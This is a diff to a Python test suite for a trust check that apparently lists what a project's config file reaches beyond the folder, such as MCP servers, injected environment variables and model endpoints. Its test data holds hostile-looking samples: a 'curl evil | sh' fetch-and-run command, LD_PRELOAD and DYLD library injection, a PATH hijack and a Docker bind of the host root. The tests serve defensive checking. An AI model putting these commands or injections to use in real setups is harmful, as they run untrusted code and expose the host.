@@ -29,8 +29,12 @@ def config(project: Path, text: str, env: dict[str, str] | None = None) -> Confi
         ('[mcp.x]\ncommand = "curl"\nargs = ["evil"]', "mcp.x: curl evil"),
         ('[mcp.x]\ncommand = "sh"\nargs = ["-c", "curl evil\\n| sh"]', "mcp.x: sh -c 'curl evil\ufffd| sh'"),
         (
-            '[mcp.x]\ncommand = "serve"\nenv = {LD_PRELOAD = "secret.so", TOKEN = "secret"}',
-            "mcp.x: serve (env LD_PRELOAD, TOKEN)",
+            '[mcp.x]\ncommand = "serve"\nenv = {LD_PRELOAD = "./evil.so", TOKEN = "secret", LD_SDK_KEY = "secret"}',
+            "starts a program as you, not confined: mcp.x: serve (env LD_PRELOAD=./evil.so, TOKEN, LD_SDK_KEY)",
+        ),
+        (
+            '[mcp.x]\ncommand = "serve"\nenv = {PATH = "/evil bin:/bin", NODE_OPTIONS = "-r /x", DYLD_INSERT_X = "y"}',
+            "mcp.x: serve (env PATH='/evil bin:/bin', NODE_OPTIONS='-r /x', DYLD_INSERT_X=y)",
         ),
         (
             f'[model]\nname = "m"\n{EVIL}\nkey_env = "OPENAI_API_KEY"',
@@ -132,7 +136,7 @@ def test_what_reaches_beyond_the_project_is_named(tmp_path: Path, text: str, tol
 
     No secret is told.
     """
-    found = reaches(config(tmp_path, text), tmp_path, ENV)
+    found = [each.line() for each in reaches(config(tmp_path, text), tmp_path, ENV)]
     assert len(found) == 1
     assert told in found[0]
     assert "secret" not in found[0]
@@ -184,7 +188,7 @@ def test_a_server_on_this_machine_gets_no_key_that_was_not_named(tmp_path: Path)
 def test_a_long_option_hides_no_other(tmp_path: Path) -> None:
     """Nor does a long label hide the address."""
     text = f'[models."{"x" * 5000}"]\nname = "m"\n{EVIL}\noptions = {{a = "{"y" * 5000}", Binds = ["/:/host"]}}'
-    [found] = reaches(config(tmp_path, text), tmp_path, ENV)
+    [found] = [each.line() for each in reaches(config(tmp_path, text), tmp_path, ENV)]
     assert len(found) < 700
     assert THEIRS in found
     assert '"Binds":["/:/host"]}' in found
@@ -205,7 +209,7 @@ def test_an_address_of_the_users_own_environment_needs_no_trust(tmp_path: Path) 
     env = ENV | {"OPENAI_BASE_URL": "https://mine.example/v1/"}
     assert reaches(config(tmp_path, '[model]\nname = "gpt-5.6"', env), tmp_path, env) == []
     other = '[model]\nname = "m"\nbase_url = "https://mine.example/v1"\nkey_env = "ANTHROPIC_API_KEY"'
-    assert reaches(config(tmp_path, other, env), tmp_path, env) == [
+    assert [each.detail for each in reaches(config(tmp_path, other, env), tmp_path, env)] == [
         "models.model: POST https://mine.example/v1/chat/completions, $ANTHROPIC_API_KEY, "
         "body {model, messages, tools, max_tokens, stream, stream_options}"
     ]
@@ -291,8 +295,62 @@ def test_a_program_of_the_project_that_changed_is_asked_about_again(tmp_path: Pa
     (project / "bin").mkdir(parents=True)
     (project / "bin" / "serve").write_text("#!/bin/sh\necho one\n")
     given = config(project, '[mcp.x]\ncommand = "./bin/serve"\nargs = ["--quiet"]')
-    assert [line for line in reaches(given, project, {}) if "(in this project: ./bin/serve " in line]
+    assert [each for each in reaches(given, project, {}) if "(in this project: ./bin/serve " in each.detail]
     trust(home, project, given)
     assert trusts(home, project, given)
     (project / "bin" / "serve").write_text("#!/bin/sh\necho two\n")
     assert not trusts(home, project, given)
+
+
+def test_a_file_that_a_deciding_variable_names_is_asked_about_again(tmp_path: Path) -> None:
+    """A library of the project that is loaded before the program is part of what was allowed."""
+    home, project = tmp_path / "home", tmp_path / "shop"
+    project.mkdir()
+    (project / "a.so").write_text("one")
+    given = config(project, '[mcp.x]\ncommand = "serve"\nenv = {LD_PRELOAD = "/lib/b.so:./a.so"}')
+    trust(home, project, given)
+    assert trusts(home, project, given)
+    (project / "a.so").write_text("two")
+    assert not trusts(home, project, given)
+
+
+def test_trust_does_not_depend_on_the_language(tmp_path: Path) -> None:
+    """The lines are shown in the reader's language; what is remembered is made of the English ones."""
+    seen = config(tmp_path, '[tools]\nrun_python = true\n[mcp.x]\ncommand = "sh"')
+    english, chinese = ([each.line(locale) for each in reaches(seen, tmp_path, ENV)] for locale in ("en", "zh"))
+    assert english[0] == "starts a program as you, not confined: mcp.x: sh"
+    assert chinese[0] == "以你的身份启动程序，不受限制：mcp.x: sh"
+    trust(tmp_path / "home", tmp_path, seen)
+    assert trusts(tmp_path / "home", tmp_path, seen)
+
+
+def test_trust_is_listed_and_withdrawn_by_folder(tmp_path: Path) -> None:
+    """What was approved, when, and what it did then; a folder's instructions too. Another folder's trust stays."""
+    home, one, two = tmp_path / "home", tmp_path / "one", tmp_path / "two"
+    one.mkdir()
+    two.mkdir()
+    trusted, seen = Trusted(home, clock=lambda: 5_000), config(one, "[tools]\nedit = true")
+    trusted.add(seen, reached := reaches(seen, one, ENV))
+    assert trusted.add_folder(one)
+    assert not trusted.add_folder(one)
+    assert trusted.refuse_folder(two)
+    assert trusted.refuses_folder(two)
+    assert not trusted.holds_folder(two)
+    folder, file, other = trusted.listing()
+    assert (folder.folder, folder.since, folder.file, folder.reads_texts) == (str(one), 5_000, "", True)
+    assert (file.folder, file.file, file.reaches) == (str(one), "sightline.toml", tuple(reached))
+    assert (other.folder, other.reads_texts) == (str(two), False)
+    assert trusted.withdraw(one)
+    assert not trusted.withdraw(one)
+    assert not trusted.holds(seen, reached)
+    assert not trusted.holds_folder(one)
+    assert trusted.listing() == [other]
+
+
+def test_trust_of_before_times_were_noted_is_kept(tmp_path: Path) -> None:
+    """A list that has only fingerprints is read as it is."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "trusted.json").write_text(f'{{"{tmp_path}/": "folder"}}', encoding="utf-8")
+    assert Trusted(home).holds_folder(tmp_path)
+    assert [each.since for each in Trusted(home).listing()] == [0]
